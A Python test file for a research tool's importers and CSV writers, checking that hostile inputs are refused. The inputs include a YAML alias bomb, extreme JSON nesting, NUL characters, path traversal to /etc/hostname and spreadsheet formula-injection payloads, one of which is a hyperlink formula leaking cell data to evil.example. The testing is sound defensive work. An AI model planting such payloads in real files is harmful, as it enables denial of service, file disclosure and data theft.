"""Hostile files given to `sense7 crowd init`, `sense7 import`, `sense7 raters import` and `sense7 config render`
(issue 37, items 7 and 10), and the CSV files sense7 writes: each refusal is one line naming the file, the
line and the field, the command exits non-zero, and the store is left exactly as it was (Label Studio is
never asked: its address here answers nothing). The crowd pool comes in as every batch does: scrubbed, and
refused when it would change a text the store holds."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from sense7.cli import app
from sense7.crowd.lifecycle import assignments_of, conversations_for
from sense7.crowd.participants import Participants, Studies, valid_platform_id
from sense7.data.conversations import Conversation, Message
from sense7.files import FORMULA_START
from sense7.labelstudio.protocol import rating_tasks
from sense7.processes import free_port
from sense7.research.jury import write_csv
from sense7.store.database import Store
from sense7.synthetic import synth
from sense7.taxonomy import DEFAULT_TAXONOMY_PATH, load_taxonomy
from tests.support.crowd import pool_lines, write_study

SENSE7 = Path(sys.executable).parent / "sense7"
TAXONOMY = load_taxonomy()
FORMULA = "=cmd|' /C calc'!A0"
BOMB = "".join(  # 9 levels of 9 aliases: 9^9 "lol"s once expanded, in 325 bytes
    [f"a: &a [{','.join(['lol'] * 9)}]\n"]
    + [f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi")])
runner = CliRunner()


@pytest.fixture
def home(tmp_path, monkeypatch) -> dict:
    """A home whose store already holds a conversation (as an earlier `sense7 import` left it) and whose
    Label Studio address answers nothing: a command that reached Label Studio would fail differently."""
    env = {"SENSE7_HOME": str(tmp_path / "home"), "SENSE7_STORE_URL": f"sqlite:///{tmp_path / 'store.sqlite'}",
           "SENSE7_LS_URL": f"http://127.0.0.1:{free_port()}", "SENSE7_LS_TOKEN": "none"}
    for key in [k for k in os.environ if k.startswith("SENSE7_")]:
        monkeypatch.delenv(key)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    Store(env["SENSE7_STORE_URL"]).upsert_conversations([Conversation("donated-1", "r-donor", [
        Message("user", "I lost my job today."), Message("assistant", "I'm so sorry. How are you holding up?")])])
    return env


def store_of(home) -> Store:
    return Store(home["SENSE7_STORE_URL"])


def invoke(*args):
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, " ".join(result.output.split())


def run(home, *args, timeout=120):
    """The command in its own process (a hang fails the test instead of the run)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("SENSE7_")} | home
    done = subprocess.run([str(SENSE7), *map(str, args)], env=env, capture_output=True, text=True, timeout=timeout)
    return done.returncode, " ".join((done.stdout + done.stderr).split())


def line_of(path: Path, text: str) -> int:
    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if line.startswith(text))


def refused(home, code: int, output: str, where: str) -> None:
    """Refused with `where` (file:line: field) in one line, no traceback, the store as it was."""
    assert code != 0, output
    assert where in output, output
    assert "Traceback" not in output and "internal error" not in output
    assert store_of(home).snapshot() == home["snapshot"]


@pytest.fixture
def before(home):
    home["snapshot"] = store_of(home).snapshot()
    return home


# -- YAML ---------------------------------------------------------------------------------------------------

@pytest.mark.slow  # the command in its own process (a hang fails the test)
def test_an_alias_bomb_in_a_study_file_is_refused_at_once_with_file_line_and_field(before, tmp_path):
    path = write_study(tmp_path / "s")
    path.write_text(path.read_text() + BOMB)
    code, output = run({k: v for k, v in before.items() if k != "snapshot"}, "crowd", "init", path)
    assert "aliases" in output
    refused(before, code, output, f"{path}:{line_of(path, 'f:')}: f: ")
    assert Studies(store_of(before)).ids() == []


@pytest.mark.slow  # the command in its own process (a hang fails the test)
def test_an_alias_bomb_in_a_taxonomy_is_refused_at_once(before, tmp_path):
    packaged = DEFAULT_TAXONOMY_PATH.read_text()
    path = tmp_path / "taxonomy.yaml"
    path.write_text(re.sub(r"\nscale:.*?\n\n", "\n", packaged, count=1, flags=re.S) + BOMB + "scale: *i\n")
    code, output = run({k: v for k, v in before.items() if k != "snapshot"}, "config", "render", "--taxonomy", path,
                       "--out", tmp_path / "out")
    assert "aliases" in output and not (tmp_path / "out").exists()
    refused(before, code, output, f"{path}:{line_of(path, 'f:')}: f: ")


def test_a_study_file_nested_beyond_the_bound_is_one_line(before, tmp_path):
    path = write_study(tmp_path / "s")
    path.write_text(path.read_text().replace("comprehension:\n", "comprehension: " + "[" * 5000 + "]" * 5000
                                             + "\nunused:\n"))
    code, output = invoke("crowd", "init", path)
    assert "nested deeper than 32 levels" in output
    refused(before, code, output, f"{path}:{line_of(path, 'comprehension')}: comprehension[1][1]")


def test_a_nul_in_a_study_file_or_its_consent_is_refused(before, tmp_path):
    path = write_study(tmp_path / "s")
    path.write_text(path.read_text().replace('What does "Continuity" mean here?', '"What\\0 does it mean?"'))
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{path}:4: comprehension[1].question: holds a NUL character")
    path = write_study(tmp_path / "t")
    (tmp_path / "t" / "consent.md").write_text("# Consent\n\nYou agree\x00 to rate.\n")
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{path}:2: consent: consent.md holds a NUL character")


# -- the consent and pool files -----------------------------------------------------------------------------

@pytest.mark.parametrize("setting,name", [("consent", "/etc/hostname"), ("consent", "../outside.md"),
                                          ("consent", "link.md"), ("pool", "{outside}/pool.jsonl"),
                                          ("pool", "../pool.jsonl"), ("pool", "link.jsonl")])
def test_the_consent_and_pool_files_must_lie_in_the_study_files_folder(before, tmp_path, setting, name):
    path = write_study(tmp_path / "s")
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.md").write_text("# not a consent text: the owner's private notes\n")
    (outside / "pool.jsonl").write_text((tmp_path / "s" / "pool.jsonl").read_text())
    (tmp_path / "outside.md").write_text("# private notes\n")
    (tmp_path / "pool.jsonl").write_text((tmp_path / "s" / "pool.jsonl").read_text())
    (tmp_path / "s" / "link.md").symlink_to(outside / "secret.md")
    (tmp_path / "s" / "link.jsonl").symlink_to(outside / "pool.jsonl")
    name = name.format(outside=outside)
    default = {"consent": "consent.md", "pool": "pool.jsonl"}[setting]
    path.write_text(path.read_text().replace(f"{setting}: {default}", f"{setting}: {name}"))
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{path}:{line_of(path, setting)}: {setting}: {name} must be a file in the study "
                                  f"file's folder")
    assert "private notes" not in output and Studies(store_of(before)).ids() == []


def test_consent_and_pool_in_a_folder_below_the_study_file_are_accepted(home, tmp_path):
    path = write_study(tmp_path / "s")
    (tmp_path / "s" / "texts").mkdir()
    for name in ("consent.md", "pool.jsonl"):
        (tmp_path / "s" / name).rename(tmp_path / "s" / "texts" / name)
    path.write_text(path.read_text().replace("consent: consent.md", "consent: texts/consent.md")
                    .replace("pool: pool.jsonl", "pool: ./texts/pool.jsonl"))
    code, output = invoke("crowd", "init", path)
    assert code == 0, output


# -- the pool comes in as every batch -----------------------------------------------------------------------

def test_a_pool_with_an_email_is_scrubbed_before_the_store_and_the_participants_tasks(home, tmp_path):
    path = write_study(tmp_path / "s", pool=1, n=1)
    line = json.loads(pool_lines(1)[0])
    line["messages"][0]["content"] = "Write to me at jane.doe@example.org or +1 415 555 0132, I feel stuck."
    (tmp_path / "s" / "pool.jsonl").write_text(json.dumps(line) + "\n")
    code, output = invoke("crowd", "init", path)
    assert code == 0, output
    assert "Redaction: 1 of 1 conversation(s) had personal details replaced" in output
    store = store_of(home)
    assert "jane.doe" not in store.snapshot() and "555 0132" not in store.snapshot()
    assert "[EMAIL_1]" in store.conversations_by_id()["pool000"][0].content
    study = Studies(store).get("pilot")[0]
    assert assignments_of(store, study).assign("pilot-p1") == ["pool000"]
    task_data = json.dumps([t["data"] for c in conversations_for(store, study, "pilot-p1") for t in rating_tasks(c)])
    assert "[EMAIL_1]" in task_data and "jane.doe" not in task_data and "555 0132" not in task_data
    assert store.staff_entries()[-1]["action"] == "crowd init redaction"


def test_a_pool_reusing_a_stored_id_with_changed_text_is_refused_and_nothing_is_written(before, tmp_path):
    path = write_study(tmp_path / "s")
    pool = tmp_path / "s" / "pool.jsonl"
    line = json.loads(pool_lines(1)[0])
    line.update(conversation_id="donated-1", messages=[{"role": "user", "content": "I lost my job today."},
                                                       {"role": "assistant", "content": "Tell me more."}])
    pool.write_text(pool.read_text() + json.dumps(line) + "\n")
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{pool}:7: conversation donated-1, message 1: the text differs from the one "
                                  "stored before")
    assert Studies(store_of(before)).ids() == []


def test_re_running_crowd_init_keeps_the_pool_and_refuses_a_changed_text(home, tmp_path):
    path = write_study(tmp_path / "s")
    assert invoke("crowd", "init", path)[0] == 0
    stored = store_of(home).snapshot()
    again = invoke("crowd", "init", path)
    assert again[0] == 0, again
    pool = tmp_path / "s" / "pool.jsonl"
    pool.write_text(pool.read_text().replace("pool 2 reply 1", "pool 2 a changed reply 1"))
    home["snapshot"] = store_of(home).snapshot()
    code, output = invoke("crowd", "init", path)
    refused(home, code, output, f"{pool}:3: conversation pool002, message 3: the text differs")
    assert json.loads(stored)["conversations"] == json.loads(home["snapshot"])["conversations"]


def test_import_refuses_a_changed_text_before_label_studio_is_asked(before, tmp_path):
    """The check is the batch's, below the command line: `sense7 import` refuses without Label Studio."""
    path = tmp_path / "v2.jsonl"
    path.write_text(json.dumps({"conversation_id": "donated-1", "rater_id": "r-donor", "messages": [
        {"role": "user", "content": "I lost my job today."}, {"role": "assistant", "content": "Oh no."}]}) + "\n")
    code, output = invoke("import", path)
    assert code == 2 and "Label Studio" not in output
    refused(before, code, output, f"{path}:1: conversation donated-1, message 1: the text differs from the imported "
                                  "one (pass --replace")


# -- JSON nesting, NUL, formula ids -------------------------------------------------------------------------

def _conversation(cid="c1", rater="r1", content="I feel stuck.", **extra) -> str:
    return json.dumps({"conversation_id": cid, "rater_id": rater, "messages": [
        {"role": "user", "content": content}, {"role": "assistant", "content": "What part feels stuck?"}], **extra})


def test_deeply_nested_json_is_refused_with_file_and_line(before, tmp_path):
    batch = tmp_path / "batch.jsonl"
    batch.write_text(_conversation() + "\n" + "[" * 100_000 + "]" * 100_000 + "\n")
    code, output = invoke("import", batch)
    refused(before, code, output, f"{batch}:2: json: nested deeper than 64 levels")
    export = tmp_path / "conversations.json"
    export.write_text('[\n {"id": "x",\n  "conversations": ' + "[" * 100_000 + "]" * 100_000 + "}]")
    code, output = invoke("import", export, "--rater", "r1")
    refused(before, code, output, f"{export}:3: conversations.json: nested deeper than 64 levels")
    path = write_study(tmp_path / "s")
    (tmp_path / "s" / "pool.jsonl").write_text('{"a": ' * 100_000 + "\n")
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{tmp_path / 's' / 'pool.jsonl'}:1: json: nested deeper than 64 levels")


@pytest.mark.parametrize("name,content,where", [
    ("batch.jsonl", _conversation(content="I feel\u0000 stuck."), "batch.jsonl:1: messages[0].content: holds a NUL"),
    ("batch.jsonl", _conversation(cid="c\u00001"), "batch.jsonl:1: conversation_id: holds a NUL"),
    ("batch.jsonl", _conversation(content="I feel \ud800 stuck."), "batch.jsonl:1: messages[0].content: holds a "
                                                                     "lone surrogate (U+D800)"),
    ("batch.csv", "conversation_id,rater_id,role,content\nc1,r1,user,I feel\x00 stuck\nc1,r1,assistant,Why?\n",
     "batch.csv:2: content: holds a NUL"),
    ("conversations.json", json.dumps([{"id": "sg1", "title": "My\u0000 title", "conversations": [
        {"from": "human", "value": "I feel stuck."}, {"from": "gpt", "value": "Why?"}]}]),
     "conversations.json: conversation sg1: context.title: holds a NUL"),
])
def test_characters_no_store_keeps_are_refused_naming_the_field(before, tmp_path, name, content, where):
    path = tmp_path / name
    path.write_text(content + "\n", encoding="utf-8", errors="surrogatepass")
    code, output = invoke("import", path, "--rater", "r1")
    refused(before, code, output, f"{tmp_path}/{where}")


FORMULA_ID = "must not start with '=', '+', '-' or '@'"


@pytest.mark.parametrize("bad", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"])
def test_ids_a_spreadsheet_would_run_are_refused_everywhere_they_come_in(before, tmp_path, bad):
    batch = tmp_path / "batch.jsonl"
    batch.write_text(_conversation() + "\n" + _conversation(cid="c2", rater=bad) + "\n")
    code, output = invoke("import", batch)
    refused(before, code, output, f"{batch}:2: rater_id: {FORMULA_ID}")
    table = tmp_path / "batch.csv"
    with table.open("w", newline="") as fh:
        csv.writer(fh).writerows([["conversation_id", "rater_id", "role", "content"], [bad, "r1", "user", "Hi"],
                                  [bad, "r1", "assistant", "Hello"]])
    code, output = invoke("import", table)
    refused(before, code, output, f"{table}:2: conversation_id: {FORMULA_ID}")
    raters = tmp_path / "raters.csv"
    with raters.open("w", newline="") as fh:
        csv.writer(fh).writerows([["rater_id", "email"], ["r1", "r1@example.org"], [bad, "r2@example.org"]])
    code, output = invoke("raters", "import", raters)
    refused(before, code, output, f"{raters}:3: rater_id: {FORMULA_ID}")
    export = tmp_path / "conversations.json"
    export.write_text(json.dumps([{"id": "sg1", "conversations": [{"from": "human", "value": "Hi"},
                                                                  {"from": "gpt", "value": "Hello"}]}]))
    code, output = invoke("import", export, "--rater", bad)
    refused(before, code, output, f"{export}: --rater: {FORMULA_ID}")
    path = write_study(tmp_path / "s")
    pool = tmp_path / "s" / "pool.jsonl"
    pool.write_text(pool.read_text().replace('"rater_id": "owner"', json.dumps({"rater_id": bad})[1:-1], 1))
    code, output = invoke("crowd", "init", path)
    refused(before, code, output, f"{pool}:1: rater_id: {FORMULA_ID}")


# -- the CSV files sense7 writes ----------------------------------------------------------------------------

def formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: starting with =, +, -, @, a tab or a carriage return, and not a number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    with path.open(newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row if c.startswith(FORMULA_START) and not number(c)]


def test_crowd_completions_and_rating_links_never_carry_a_formula(home, tmp_path):
    store = store_of(home)
    assert invoke("crowd", "init", write_study(tmp_path / "s"))[0] == 0
    study = Studies(store).get("pilot")[0]
    Participants(store, study).agree("pilot-p1", {"platform_id": "-A1", "platform_study": FORMULA,
                                                  "platform_session": "@SUM(A1:A9)"})
    out = tmp_path / "completions.csv"
    code, output = invoke("crowd", "completions", "pilot", "--all", "--out", out)
    assert code == 0, output
    assert formula_cells(out) == [] and f"'{FORMULA}" in out.read_text()
    # A rater id stored before ids were checked, and an address raters import accepts (no space, one @).
    store.upsert_raters([{"rater_id": "=1+1", "email": None, "traits": {}},
                         {"rater_id": "r2", "email": '=hyperlink("http://evil.example/?"&a1)@x.org', "traits": {}}])
    links = tmp_path / "links.csv"
    code, output = invoke("raters", "invite", "--out", links, "--no-copy-queues")
    assert code == 0, output
    assert formula_cells(links) == [] and "'=1+1" in links.read_text()
    code, output = invoke("raters", "invite", "--out", links, "--no-copy-queues")  # merged: still no formula
    assert code == 0 and formula_cells(links) == []


def test_a_release_and_a_jury_never_carry_a_formula_and_the_json_keeps_the_text(home, tmp_path):
    store = store_of(home)
    data = synth.generate(40, 6, seed=5, taxonomy=TAXONOMY)
    store.upsert_raters([{"rater_id": r["rater_id"], "email": r["email"],
                          "traits": {k: v for k, v in r.items() if k not in ("rater_id", "email")}}
                         for r in data.raters.to_dict("records")])
    first = data.conversations[0]
    data.conversations[0] = Conversation(first.conversation_id, first.rater_id, [
        Message("user", FORMULA), Message("assistant", "@SUM(A1:A9) -2+3"), *first.messages[2:]], first.context)
    store.upsert_conversations(data.conversations)
    store.import_ratings(data.ratings)
    out = tmp_path / "release"
    code, output = invoke("release", "--out", out)
    assert code == 0, output
    assert [formula_cells(p) for p in sorted((out / "csv").glob("*.csv"))] == [[]] * len(list((out / "csv").glob("*.csv")))
    texts = [m["content"] for line in (out / "data" / "conversations.jsonl").read_text().splitlines()
             for m in json.loads(line)["messages"]]
    assert FORMULA in texts and "@SUM(A1:A9) -2+3" in texts
    frame = pd.DataFrame({"conversation_id": [FORMULA, "c2"], "rater_id": ["+1+1", "r2"], "expected": [-0.5, 2.25]})
    jury = write_csv(frame, tmp_path / "jury.csv")
    assert formula_cells(jury) == [] and "-0.500000" in jury.read_text()


@pytest.mark.parametrize("platform_id", ["-2+3", "-cmd", "=1", "+1", "@x", "", "a" * 65, "5f3c 2a9b", "x\x00"])
def test_a_platform_id_a_spreadsheet_could_run_or_that_is_malformed_is_refused(platform_id):
    assert not valid_platform_id(platform_id)


def test_prolific_and_other_platforms_ids_are_accepted():
    assert all(map(valid_platform_id, ["5f3c2a9b8e7d6c5b4a392817", "worker_17", "A-1", "a" * 64]))
